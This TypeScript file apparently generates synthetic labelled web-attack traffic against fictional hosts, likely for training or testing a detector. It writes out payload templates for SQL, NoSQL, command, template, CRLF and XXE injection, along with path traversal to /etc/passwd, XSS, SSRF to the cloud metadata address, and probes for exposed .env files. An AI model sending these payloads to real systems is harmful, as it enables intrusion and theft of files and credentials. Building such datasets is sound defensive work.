import type { LabelledAttack, Spot } from '../attack.ts';
import { body } from '../attack.ts';
import type { ReplyCase } from '../half-corpus.ts';
import type { Random } from '../random.ts';
import { commandHand, ssrfHand, traversalHand } from './payload-machine.ts';
import { entityText, scannerProbe } from './payload-whole.ts';
import { answered, FILE_SPOTS, TEXT_SPOTS, URL_SPOTS } from './spots.ts';
import { product, word } from './words.ts';

const SPOT: Spot = TEXT_SPOTS[0] ?? {
  kind: 'query',
  method: 'GET',
  host: 'shop.larkfield.example',
  path: '/api/search',
  name: 'q',
};
const FILE: Spot = FILE_SPOTS[0] ?? SPOT;
const FETCH: Spot = URL_SPOTS[0] ?? SPOT;
const PAGE: Spot = {
  kind: 'query',
  method: 'GET',
  host: 'blog.quillmere.example',
  path: '/find',
  name: 'term',
};
const html = (responseBody: string, status = 200) => ({
  status,
  responseHeaders: { 'content-type': 'text/html; charset=utf-8' },
  responseBody,
});
const plain = (responseBody: string, status = 200) => ({
  status,
  responseHeaders: { 'content-type': 'text/plain' },
  responseBody,
});
const empty = { status: 200, responseBody: '{"total":0,"items":[]}' };
const passwd = (r: Random): string =>
  `root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n${word(r)}:x:1000:1000::/home/app:/bin/sh\n`;

function sqlSpeaks(r: Random): LabelledAttack {
  const w = word(r);
  const error = r.pick([
    `You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '''${w}' at line 1`,
    `ERROR: unterminated quoted string at or near "'${w}"`,
    `ORA-01756: quoted string not properly terminated`,
    `Unclosed quotation mark after the character string '${w}'.`,
    `SQLSTATE[42000]: Syntax error or access violation: 1064 near '${w}'`,
    `SQLITE_ERROR: unrecognized token: "'${w}"`,
  ]);
  const text = `${w}' AND EXTRACTVALUE(${r.int(1000, 9999)},CONCAT(0x5c,user()))-- ${r.token(3)}`;
  return answered(
    'sql-injection',
    { text, technique: 'the database complains' },
    SPOT,
    'success',
    { status: 500, responseBody: JSON.stringify({ error }) },
    r,
  );
}

function sqlWaits(r: Random): LabelledAttack {
  const s = r.int(5, 9);
  const worked = r.chance(0.5);
  const text = r.pick([
    `${word(r)}' AND (SELECT ${r.int(1000, 9999)} FROM (SELECT(SLEEP(${s})))x)-- -`,
    `${word(r)}';SELECT PG_SLEEP(${s})--`,
    `${word(r)}';WAITFOR DELAY '0:0:${s}'--`,
  ]);
  return answered(
    'sql-injection',
    { text, technique: worked ? 'waited as asked' : 'did not wait', delaySeconds: s },
    SPOT,
    worked ? 'success' : 'attempt',
    { ...empty, latencyMs: worked ? s * 1000 + r.int(15, 120) : r.int(10, 140) },
    r,
  );
}

function fileRead(r: Random): LabelledAttack {
  const worked = r.chance(0.55);
  const p = {
    ...traversalHand(r),
    text: `${r.pick(['img/', ''])}${word(r)}/${'../'.repeat(r.int(4, 11))}etc/passwd`,
    technique: worked ? 'file came back' : 'file did not come',
  };
  return answered(
    'path-traversal',
    p,
    FILE,
    worked ? 'success' : 'attempt',
    worked
      ? plain(passwd(r))
      : r.pick([html('<!doctype html><title>Files</title>'), plain('No such file', 404), empty]),
    r,
  );
}

function commandRan(r: Random): LabelledAttack {
  const worked = r.chance(0.55);
  const p = {
    ...commandHand(r),
    text: `${word(r)}.png;id;#${r.int(1, 9999)}`,
    technique: worked ? 'output of id' : 'no output',
  };
  return answered(
    'command-injection',
    p,
    FILE,
    worked ? 'success' : 'attempt',
    worked
      ? plain(`uid=33(www-data) gid=33(www-data) groups=33(www-data)\n`)
      : plain(`cannot open ${word(r)}`, 400),
    r,
  );
}

function reflected(r: Random): LabelledAttack {
  const text = `"><img src=x onerror=alert(${r.int(1, 99999)})>`;
  const way = r.pick(['raw', 'raw', 'escaped', 'json']);
  const safe = text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
  const reply =
    way === 'raw'
      ? html(`<!doctype html><h1>Results for ${text}</h1><p>${product(r).replaceAll('<', '&lt;')}</p>`)
      : way === 'escaped'
        ? html(`<!doctype html><h1>Results for ${safe}</h1>`)
        : { status: 200, responseBody: JSON.stringify({ term: text, items: [] }) };
  return answered(
    'xss',
    { text, technique: `came back ${way}` },
    PAGE,
    way === 'raw' ? 'success' : 'attempt',
    reply,
    r,
  );
}

function fetched(r: Random): LabelledAttack {
  const worked = r.chance(0.55);
  const p = {
    ...ssrfHand(r),
    text: `http://169.254.169.254/latest/meta-data/?${r.int(1, 99999)}`,
    technique: worked ? 'metadata came back' : 'nothing fetched',
  };
  return answered(
    'ssrf',
    p,
    FETCH,
    worked ? 'success' : 'attempt',
    worked
      ? plain('ami-id\nami-launch-index\nhostname\niam/\ninstance-id\ninstance-type\nlocal-ipv4\n')
      : { status: 422, responseBody: '{"error":"address_not_allowed"}' },
    r,
  );
}

function entityRead(r: Random): LabelledAttack {
  const worked = r.chance(0.55);
  const e = word(r) + r.int(1, 999);
  const text = worked
    ? `<?xml version="1.0"?><!DOCTYPE o [<!ENTITY ${e} SYSTEM "file:///etc/passwd">]><o><name>&${e};</name></o>`
    : entityText(r, 'o')[0];
  return {
    family: 'xxe',
    accepted: ['xxe', 'ssrf', 'path-traversal'],
    technique: worked ? 'file came back' : 'refused',
    location: 'request.body',
    outcome: worked ? 'success' : 'attempt',
    shown: text,
    exchange: {
      method: 'POST',
      host: 'edi.hollowbrook.example',
      path: '/import/xml',
      ...body('application/xml', text),
      ...(worked
        ? {
            status: 200,
            responseHeaders: { 'content-type': 'application/xml' },
            responseBody: `<o><name>${passwd(r)}</name></o>`,
          }
        : { status: 400, responseBody: '{"error":"doctype_not_allowed"}' }),
    },
  };
}

function computed(r: Random): LabelledAttack {
  const [a, b] = [r.int(211, 9999), r.int(211, 9999)];
  const worked = r.chance(0.55);
  const text = r.pick([`{{${a}*${b}}}`, `\${${a}*${b}}`, `<%= ${a}*${b} %>`]);
  const shown = text.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  return answered(
    'template-injection',
    { text, technique: worked ? 'computed' : 'came back as written' },
    PAGE,
    worked ? 'success' : 'attempt',
    html(`<!doctype html><h1>Results for ${worked ? a * b : shown}</h1>`),
    r,
  );
}

function documentError(r: Random): LabelledAttack {
  const op = `$${word(r)}${r.int(1, 99)}`;
  const text = JSON.stringify({ username: { [op]: 1, $ne: null }, password: { $ne: r.int(1, 99) } });
  return {
    family: 'nosql-injection',
    accepted: ['nosql-injection'],
    technique: 'the database complains',
    location: 'request.body',
    outcome: 'success',
    shown: text,
    exchange: {
      method: 'POST',
      host: 'login.tarnwick.example',
      path: '/api/session',
      ...body('application/json', text),
      status: 500,
      responseBody: JSON.stringify({ error: `MongoServerError: unknown operator: ${op}` }),
    },
  };
}

function headerCame(r: Random): LabelledAttack {
  const worked = r.chance(0.55);
  const name = `${word(r)}${r.int(1, 999)}`;
  const p = {
    text: `/home\r\nSet-Cookie: ${name}=1`,
    technique: worked ? 'cookie was set' : 'stayed encoded',
  };
  const spot: Spot = {
    kind: 'query',
    method: 'GET',
    host: 'login.tarnwick.example',
    path: '/logout',
    name: 'next',
  };
  const headers = worked
    ? { location: '/home', 'set-cookie': `${name}=1` }
    : { location: `/home%0D%0ASet-Cookie:%20${name}=1` };
  return answered(
    'crlf-injection',
    p,
    spot,
    worked ? 'success' : 'attempt',
    { status: 302, responseHeaders: headers, responseBody: '' },
    r,
  );
}

function exposed(r: Random): LabelledAttack {
  const made = scannerProbe(r);
  const [path, text] = r.pick<readonly [string, string]>([
    [
      `/${word(r)}/.env`,
      `APP_ENV=production\nAPP_DEBUG=false\nDB_HOST=db\nDB_USERNAME=app\nDB_PASSWORD=${r.token(6)}\n`,
    ],
    [
      `/${word(r)}/.git/config`,
      `[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n[remote "origin"]\n\turl = git@git.quillmere.example:${word(r)}.git\n`,
    ],
  ]);
  return {
    ...made,
    technique: 'file exposed',
    outcome: 'success',
    shown: path,
    exchange: { ...made.exchange, path, ...plain(text) },
  };
}

export const OUTCOMES: readonly ReplyCase[] = [
  { family: 'sql-injection', attack: sqlSpeaks, count: 50 },
  { family: 'sql-injection', attack: sqlWaits, count: 60 },
  { family: 'path-traversal', attack: fileRead, count: 60 },
  { family: 'command-injection', attack: commandRan, count: 60 },
  { family: 'xss', attack: reflected, count: 80 },
  { family: 'ssrf', attack: fetched, count: 60 },
  { family: 'xxe', attack: entityRead, count: 60 },
  { family: 'template-injection', attack: computed, count: 60 },
  { family: 'nosql-injection', attack: documentError, count: 30 },
  { family: 'crlf-injection', attack: headerCame, count: 60 },
  { family: 'scanner', attack: exposed, count: 30 },
];
